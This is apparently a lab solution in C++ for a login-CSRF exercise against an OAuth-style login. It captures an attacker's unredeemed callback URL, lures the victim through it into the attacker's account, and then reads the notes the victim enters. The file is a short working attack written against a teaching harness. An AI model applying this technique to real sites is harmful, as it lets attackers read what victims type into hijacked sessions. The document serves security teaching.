// Solution lab 7g · Welcome, mallory
#include "login_csrf.hpp"

namespace lesson {
namespace {

// Logs in, and stops before the client has seen the code.
std::string callback_with_own_code(const Evidence& evidence) {
  const auto at_provider = evidence.browse(evidence.login).header("Location");
  return evidence.browse(at_provider).header("Location");
}

}  // namespace

Loot attack(const Evidence& evidence) {
  evidence.lure(callback_with_own_code(evidence));
  evidence.browse(callback_with_own_code(evidence));
  return {.notes = evidence.browse(evidence.notes).body};
}

}  // namespace lesson
